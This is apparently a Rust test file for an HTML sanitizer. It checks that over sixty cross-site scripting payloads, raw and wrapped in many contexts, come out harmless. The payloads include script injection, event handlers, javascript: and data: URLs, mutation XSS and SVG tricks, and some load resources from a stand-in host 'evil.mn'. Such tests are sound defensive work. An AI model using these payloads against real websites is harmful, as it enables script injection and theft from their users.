//! Attack payloads, and a check of the result that is stricter than the sanitizer and independent of it.

use super::super::policy::{GLOBAL_ATTRIBUTES, KEPT_ELEMENTS};
use super::clean;
use crate::html::elements::is_void;
use crate::html::tokenizer::{Token, tokens};

/// Fails unless `clean` is balanced and has only listed elements, listed attributes and harmless addresses.
pub(super) fn assert_safe(given: &str, clean: &str) {
    let mut open = Vec::new();
    for token in tokens(clean) {
        match token {
            Token::Text(text) => assert!(!text.contains(['<', '>']), "{given} -> {clean}"),
            Token::Start(tag) => {
                let element = KEPT_ELEMENTS.iter().find(|element| element.name == tag.name);
                let element = element.unwrap_or_else(|| panic!("<{}>: {given} -> {clean}", tag.name));
                for (name, value) in tag.attributes() {
                    let is_listed = name == "rel"
                        || GLOBAL_ATTRIBUTES.contains(&name)
                        || element.attributes.contains(&name);
                    assert!(is_listed && !name.starts_with("on"), "{name}: {given} -> {clean}");
                    assert_harmless_address(name, value, given, clean);
                }
                if !is_void(element.name) {
                    open.push(element.name);
                }
            }
            Token::End(name, _) => assert_eq!(open.pop(), Some(name.as_str()), "{given} -> {clean}"),
            Token::Raw(_) | Token::Comment | Token::Unfinished(_) => panic!("{given} -> {clean}"),
        }
    }
    assert!(open.is_empty(), "{given} -> {clean}");
}

fn assert_harmless_address(name: &str, value: &str, given: &str, clean: &str) {
    let is_web = |address: &str| address.starts_with("https://") || address.starts_with("http://");
    let is_harmless = match name {
        "href" => is_web(value) || value.starts_with("mailto:") || value.starts_with("#user-content-"),
        "id" => value.starts_with("user-content-") && clean.contains(&format!("\"#{value}\"")),
        "src" => is_web(value),
        "srcset" => value.split(", ").all(is_web),
        _ => true,
    };
    assert!(is_harmless, "{name}={value}: {given} -> {clean}");
}

#[test]
fn no_payload_survives_in_any_context() {
    for payload in ATTACK_PAYLOADS {
        assert_safe(payload, &clean(payload));
        for wrapped in [
            format!("<div>{payload}</div>"),
            format!("<table><tr><td>{payload}"),
            format!("<table>{payload}</table>"),
            format!("<svg>{payload}</svg>{payload}"),
            format!("<math><mtext>{payload}"),
            format!("<noscript>{payload}</noscript>"),
            format!("<p title=\"{payload}\">x</p>"),
            format!("<a href='{payload}'>x</a>"),
            format!("<img alt={payload} src=a>"),
            format!("<!-- {payload} --> {payload}"),
            format!("<textarea>{payload}</textarea><select>{payload}"),
            payload.to_uppercase(),
            payload.replace(' ', "\u{c}"),
            payload.replace(' ', "/"),
        ] {
            assert_safe(&wrapped, &clean(&wrapped));
        }
    }
    assert!(ATTACK_PAYLOADS.len() >= 60);
}

/// The payloads, grouped by the way they attack.
const ATTACK_PAYLOADS: &[&str] = &[
    // Scripts
    "<script>alert(1)</script>",
    "<script src=https://evil.mn/x.js></script>",
    "<scr<script>ipt>alert(1)</script>",
    "<script/src=data:,alert(1)>",
    "<script\n>alert(1)</script\n>",
    "<script><!--<script>alert(1)</script>--></script>",
    "<<script>alert(1);//<</script>",
    "<script\0>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><script>&#97;lert(1)</script>",
    // Event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=alert(1) />",
    "<img/src='x'/onerror='alert(1)'>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src=`x` onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p onmouseover=alert(1) OnClick='alert(1)'>x",
    "<div onpointerenter=alert(1)>x</div>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<img src=x one\u{e9}rror=alert(1) onerror\u{b}=alert(1)>",
    // Addresses
    "<a href=javascript:alert(1)>x</a>",
    "<a href='  JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='&#x1;javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='blob:https://a.mn/x'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='tauri://localhost/'>x</a>",
    "<a href='view-source:https://a.mn'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='\\\\evil.mn\\x'>x</a>",
    "<a href=x ping=https://evil.mn download>x</a>",
    "<img src=javascript:alert(1)>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='javascript:alert(1) 1x, data:text/html,x 2x'>",
    "<img srcset='x.png 1x\" onerror=alert(1)'>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<base href=https://evil.mn/><a href=x>x</a>",
    // Styles, and attributes that affect the surrounding window
    "<style>@import 'https://evil.mn/x.css'</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<link rel=stylesheet href=https://evil.mn/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<p id=app class=modal name=body>x</p>",
    "<p id=app>x</p><a href=#app>y</a><a name=app>z</a>",
    "<a href=#user-content-app>y</a><p id=user-content-app>x</p><p id=app>z</p>",
    "<a href='#\" onclick=alert(1) x=\"'>y</a><p id='\" onclick=alert(1) x=\"'>x</p>",
    "<a href=#getElementById id=getElementById name=getElementById>x</a>",
    "<form id=x><input name=attributes></form>",
    "<td background=javascript:alert(1)>x",
    // Frames, plugins, media and forms
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<video src=javascript:alert(1) poster=javascript:alert(1)><source src=data:text/html,x></video>",
    "<video src='/a.mp4\"onerror=alert(1)' title='\"><img src=x onerror=alert(1)>' onplay=alert(1)>",
    "<iframe src='https://www.youtube.com/embed/abcdefghijk' onload=alert(1) title='<script>alert(1)</script>'>",
    "<iframe src='https://www.facebook.com/plugins/video.php?href=javascript:alert(1)'></iframe>",
    "<object data='https://www.youtube.com/v/abcdefghijk'><param name=movie value=javascript:alert(1)></object>",
    "<portal src=https://evil.mn></portal>",
    "<template><script>alert(1)</script></template>",
    "<xml><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script></xml>",
    // Markup that changes when it is parsed again (mutation XSS)
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><foreignObject><p><style></p><img src=x onerror=alert(1)></style>",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>",
    "<p title='&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<a href='https://a.mn/\"><img src=x onerror=alert(1)>'>x</a>",
    // Comments and declarations
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--->--><img src=x onerror=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml-stylesheet href='javascript:alert(1)'?><img src=x onerror=alert(1)>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    // Animations
    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x' /></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    // Markup that is cut off
    "<img src=x onerror=alert(1)",
    "<a href=\"javascript:alert(1)",
    "<p title=\"<script>alert(1)</script>",
];
